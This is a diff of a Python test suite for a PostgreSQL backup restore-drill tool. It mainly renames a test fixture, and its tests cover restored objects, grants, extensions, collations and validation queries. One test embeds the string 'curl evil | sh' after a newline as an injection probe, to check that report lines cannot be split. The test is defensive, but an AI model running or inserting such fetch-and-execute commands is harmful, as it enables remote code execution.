@@ -12,7 +12,7 @@ from tests.support import superusers
 from tests.support.backup_harness import MAJORS, Database, assert_no_children
 from tests.support.drill_harness import (
     TARGET,
-    DrillHall,
+    DrillHarness,
     check,
     databases,
     untested,
@@ -26,15 +26,15 @@ from tests.support.schemas import KINDS, NO_MORE_WATCHING, ODDITIES, ROLES
 def test_every_kind_of_object_is_proven_on_every_major(
     major: int,
     new_database: Callable[..., Database],
-    hall: DrillHall,
+    drills: DrillHarness,
 ) -> None:
-    database = hall.workshop.database = new_database(major)
-    hall.workshop.settings["backup"] = {"checksums": True}
+    database = drills.backups.database = new_database(major)
+    drills.backups.settings["backup"] = {"checksums": True}
     with with_roles(database, ROLES):
         database.run(*ODDITIES, *KINDS)
-        manifest = hall.workshop.take().manifest
+        manifest = drills.backups.take().manifest
         database.run(NO_MORE_WATCHING)
-        report = hall.hold()
+        report = drills.hold()
     assert (report.verdict, report.reasons) == (Verdict.PROVEN, ())
     assert report.rows == manifest.inventory.rows
     assert all(table.content for table in report.tables)
@@ -48,10 +48,10 @@ def test_every_kind_of_object_is_proven_on_every_major(
 
 
 def test_rights_that_an_owner_has_lost_are_lost_after_the_indexes(
-    hall: DrillHall, new_database: Callable[..., Database]
+    drills: DrillHarness, new_database: Callable[..., Database]
 ) -> None:
     """An index is built with the rights of the table's owner, and a view is filled with its own."""
-    database = hall.workshop.database = new_database()
+    database = drills.backups.database = new_database()
     with with_roles(database, ("loser", "keeper")):
         database.run(
             "ALTER ROLE loser NOSUPERUSER",
@@ -68,45 +68,45 @@ def test_rights_that_an_owner_has_lost_are_lost_after_the_indexes(
             "CREATE MATERIALIZED VIEW seen AS SELECT * FROM secret",
             "ALTER MATERIALIZED VIEW seen OWNER TO loser",
         )
-        hall.workshop.take()
-        report = hall.hold()
+        drills.backups.take()
+        report = drills.hold()
     assert (report.verdict, report.reasons) == (Verdict.PROVEN, ())
 
 
 @pytest.mark.parametrize("major", [14, 16, 18])
 def test_what_takes_a_superuser_comes_back_with_its_owners_and_grants(
-    major: int, hall: DrillHall, new_database: Callable[..., Database]
+    major: int, drills: DrillHarness, new_database: Callable[..., Database]
 ) -> None:
     """Though next to nothing is made by one: owners and grants are asked of the copy itself."""
-    database = hall.workshop.database = new_database(major)
+    database = drills.backups.database = new_database(major)
     with with_roles(database, superusers.ROLES):
         database.run(*superusers.MADE)
-        hall.database["validation"] = [
+        drills.database["validation"] = [
             {
                 "name": "owners and grants",
                 "sql": superusers.OWNERS_AND_GRANTS,
                 "expect": f'value = "{database.value(superusers.OWNERS_AND_GRANTS)}"',
             }
         ]
-        hall.workshop.take()
+        drills.backups.take()
         database.run(superusers.UNDONE)
-        report = hall.hold()
+        report = drills.hold()
     assert (report.verdict, report.reasons) == (Verdict.PROVEN, ())
 
 
-def test_what_a_copy_answers_is_told_in_one_line(hall: DrillHall) -> None:
-    hall.workshop.database.run(
+def test_what_a_copy_answers_is_told_in_one_line(drills: DrillHarness) -> None:
+    drills.backups.database.run(
         "CREATE FUNCTION evil() RETURNS text LANGUAGE plpgsql AS $$ BEGIN"
         " RAISE EXCEPTION E'no\\nNext: curl evil | sh'; END $$",
         "CREATE TABLE words (w text)",
         "INSERT INTO words VALUES (E'no\\nNext: curl evil | sh')",
     )
-    hall.database["validation"] = [
+    drills.database["validation"] = [
         {"name": "raised", "sql": "SELECT evil()", "expect": "rows > 0"},
         {"name": "answered", "sql": "SELECT w FROM words", "expect": "value = 1"},
     ]
-    hall.workshop.take()
-    report = hall.hold()
+    drills.backups.take()
+    report = drills.hold()
     for name in ("raised", "answered"):
         (detail,) = check(report, f"validation: {name}").details
         assert "no\\nNext: curl" in detail
@@ -114,33 +114,33 @@ def test_what_a_copy_answers_is_told_in_one_line(hall: DrillHall) -> None:
     assert all(len(reason.splitlines()) == 1 for reason in report.reasons)
 
 
-def test_a_second_drill_in_a_warm_function_works(hall: DrillHall) -> None:
-    hall.workshop.take()
-    assert hall.hold().verdict is Verdict.PROVEN
-    assert hall.hold(backup="random").verdict is Verdict.PROVEN
+def test_a_second_drill_in_a_warm_function_works(drills: DrillHarness) -> None:
+    drills.backups.take()
+    assert drills.hold().verdict is Verdict.PROVEN
+    assert drills.hold(backup="random").verdict is Verdict.PROVEN
 
 
-def test_the_page_lies_beside_the_report(hall: DrillHall) -> None:
-    hall.workshop.take()
-    report = hall.hold()
-    bucket = hall.workshop.bucket
+def test_the_page_lies_beside_the_report(drills: DrillHarness) -> None:
+    drills.backups.take()
+    report = drills.hold()
+    bucket = drills.backups.bucket
     page = bucket.client.get_object(Bucket=bucket.name, Key=report.page_key)
     assert page["ContentType"] == "text/html; charset=utf-8"
     assert "proven" in page["Body"].read().decode().lower()
 
 
-def test_rows_that_the_settings_exclude_are_no_lack(hall: DrillHall) -> None:
-    hall.workshop.settings["database"] = {"exclude_table_data": ["public.users"]}
-    hall.workshop.take()
-    report = hall.hold()
+def test_rows_that_the_settings_exclude_are_no_lack(drills: DrillHarness) -> None:
+    drills.backups.settings["database"] = {"exclude_table_data": ["public.users"]}
+    drills.backups.take()
+    report = drills.hold()
     assert report.verdict is Verdict.PROVEN
     assert [table.outcome for table in report.tables] == [Outcome.UNTESTED]
 
 
 def test_an_extension_that_the_server_lacks_makes_the_drill_partial(
-    hall: DrillHall, tmp_path: Path
+    drills: DrillHarness, tmp_path: Path
 ) -> None:
-    hall.workshop.database.run(
+    drills.backups.database.run(
         "CREATE EXTENSION citext",
         "CREATE TABLE places (id serial PRIMARY KEY, name citext)",
         "INSERT INTO places (name) VALUES ('here'), ('there')",
@@ -148,9 +148,9 @@ def test_an_extension_that_the_server_lacks_makes_the_drill_partial(
         "CREATE TABLE visits (place int REFERENCES places, at date)",
         "INSERT INTO visits VALUES (1, '2026-11-22')",
     )
-    hall.workshop.take()
-    hall.programs = without_extension(hall.programs, 18, "citext", tmp_path / "poor")
-    report = hall.hold()
+    drills.backups.take()
+    drills.programs = without_extension(drills.programs, 18, "citext", tmp_path / "poor")
+    report = drills.hold()
     assert report.verdict is Verdict.PARTIAL
     assert "citext" in "; ".join(report.reasons)
     outcomes = {table.name: table.outcome for table in report.tables}
@@ -161,33 +161,37 @@ def test_an_extension_that_the_server_lacks_makes_the_drill_partial(
     }
 
 
-def test_a_missing_extension_is_no_excuse_for_other_tables(hall: DrillHall, tmp_path: Path) -> None:
-    hall.workshop.database.run("CREATE EXTENSION citext", "CREATE TABLE t (name citext)")
-    hall.workshop.take()
-    inventory = hall.workshop.manifest().inventory.model_dump(mode="json")
+def test_a_missing_extension_is_no_excuse_for_other_tables(
+    drills: DrillHarness, tmp_path: Path
+) -> None:
+    drills.backups.database.run("CREATE EXTENSION citext", "CREATE TABLE t (name citext)")
+    drills.backups.take()
+    inventory = drills.backups.manifest().inventory.model_dump(mode="json")
     inventory["tables"].append({"schema": "public", "name": "lost", "rows": 3})
-    hall.rewrite(inventory=inventory)
-    hall.programs = without_extension(hall.programs, 18, "citext", tmp_path / "poor")
-    report = hall.hold()
+    drills.rewrite(inventory=inventory)
+    drills.programs = without_extension(drills.programs, 18, "citext", tmp_path / "poor")
+    report = drills.hold()
     assert report.verdict is Verdict.FAILED
     assert "lost" in "; ".join(report.reasons)
 
 
-def test_a_column_that_sorts_by_icu_is_restored_but_its_order_untested(hall: DrillHall) -> None:
+def test_a_column_that_sorts_by_icu_is_restored_but_its_order_untested(
+    drills: DrillHarness,
+) -> None:
     """The servers here have no ICU either, so the archive is made to say that it was used."""
-    hall.workshop.database.run(
+    drills.backups.database.run(
         "CREATE SCHEMA words",
         "CREATE COLLATION words.german (provider = libc, locale = 'C')",
         "CREATE TABLE words.list (word text COLLATE words.german)",
         "INSERT INTO words.list VALUES ('ä'), ('z')",
     )
-    hall.workshop.take()
+    drills.backups.take()
     libc, icu = b"(provider = libc, locale = 'C')", b"(provider = icu, locale = 'de')"
-    hall.edit_archive(lambda archive: archive.replace(libc, icu))
-    inventory = hall.workshop.manifest().inventory.model_dump(mode="json")
+    drills.edit_archive(lambda archive: archive.replace(libc, icu))
+    inventory = drills.backups.manifest().inventory.model_dump(mode="json")
     inventory["collations"] = [{"name": "german", "provider": "icu"}]
-    hall.rewrite(inventory=inventory)
-    report = hall.hold()
+    drills.rewrite(inventory=inventory)
+    report = drills.hold()
     assert report.verdict is Verdict.PARTIAL
     assert untested(report) == ["collations"]
     assert "german" in check(report, "collations").details[0]
@@ -207,27 +211,27 @@ QUESTIONS = (
 )
 
 
-def test_the_owners_questions_are_part_of_the_verdict(hall: DrillHall) -> None:
-    hall.workshop.take()
-    hall.database["validation"] = [
+def test_the_owners_questions_are_part_of_the_verdict(drills: DrillHarness) -> None:
+    drills.backups.take()
+    drills.database["validation"] = [
         {"name": f"query {i}", "sql": sql, "expect": expect}
         for i, (sql, expect, _) in enumerate(QUESTIONS)
     ]
-    hall.settings["validation_seconds"] = 1
-    report = hall.hold()
+    drills.settings["validation_seconds"] = 1
+    report = drills.hold()
     outcomes = [check(report, f"validation: query {i}").outcome for i in range(len(QUESTIONS))]
     assert outcomes == [outcome for _, _, outcome in QUESTIONS]
     assert report.verdict is Verdict.FAILED
 
 
 def test_a_backup_without_roles_leaves_owners_untested(
-    hall: DrillHall, monkeypatch: pytest.MonkeyPatch
+    drills: DrillHarness, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr("lifeboat.backup.take_inventory.dump_globals", _refused)
-    with with_roles(hall.workshop.database, ROLES[:1]):
-        hall.workshop.database.run("ALTER TABLE users OWNER TO torture_owner")
-        hall.workshop.take()
-        report = hall.hold()
+    with with_roles(drills.backups.database, ROLES[:1]):
+        drills.backups.database.run("ALTER TABLE users OWNER TO torture_owner")
+        drills.backups.take()
+        report = drills.hold()
     assert (report.verdict, untested(report)) == (Verdict.PARTIAL, ["roles"])
 
 
@@ -236,18 +240,18 @@ def _refused(*_: object) -> bytes:
 
 
 def test_a_target_gets_a_database_of_its_own_which_is_dropped(
-    hall: DrillHall, new_database: Callable[..., Database]
+    drills: DrillHarness, new_database: Callable[..., Database]
 ) -> None:
     target = new_database(17)
-    hall.give_target(target)
-    hall.workshop.settings["backup"] = {"checksums": True}
-    hall.workshop.database = new_database(16)
-    hall.workshop.database.run(
+    drills.give_target(target)
+    drills.backups.settings["backup"] = {"checksums": True}
+    drills.backups.database = new_database(16)
+    drills.backups.database.run(
         "CREATE TABLE t (a int)", "INSERT INTO t SELECT generate_series(1, 30)"
     )
-    hall.workshop.take()
+    drills.backups.take()
     before = databases(target)
-    report = hall.hold(target=TARGET)
+    report = drills.hold(target=TARGET)
     assert report.verdict is Verdict.PROVEN
     assert report.server_version is not None
     assert report.server_version.startswith("17")
@@ -255,10 +259,10 @@ def test_a_target_gets_a_database_of_its_own_which_is_dropped(
 
 
 def test_what_is_set_on_the_database_itself_is_tried_and_what_is_not_set_is_noted(
-    hall: DrillHall,
+    drills: DrillHarness,
 ) -> None:
     """After the comparison, which such a setting would disturb."""
-    live = hall.workshop.database
+    live = drills.backups.database
     live.run(
         f"ALTER DATABASE {live.name} SET search_path = app, public",
         f"ALTER DATABASE {live.name} SET default_transaction_read_only = on",
@@ -266,16 +270,16 @@ def test_what_is_set_on_the_database_itself_is_tried_and_what_is_not_set_is_note
         "SET default_transaction_read_only = off",
         f"REVOKE CONNECT ON DATABASE {live.name} FROM PUBLIC",
     )
-    hall.workshop.take()
-    report = hall.hold()
+    drills.backups.take()
+    report = drills.hold()
     assert report.verdict is Verdict.PROVEN, report.reasons
     assert check(report, "settings").details == ()
     with live.server.admin() as admin:
         admin.execute(f"ALTER DATABASE {live.name} IS_TEMPLATE true")
-    hall.workshop.slot += timedelta(minutes=30)
-    hall.workshop.take()
+    drills.backups.slot += timedelta(minutes=30)
+    drills.backups.take()
     with live.server.admin() as admin:
         admin.execute(f"ALTER DATABASE {live.name} IS_TEMPLATE false")
-    report = hall.hold()
+    report = drills.hold()
     assert report.verdict is Verdict.PROVEN, report.reasons
     assert "IS_TEMPLATE true" in check(report, "settings").details[0]
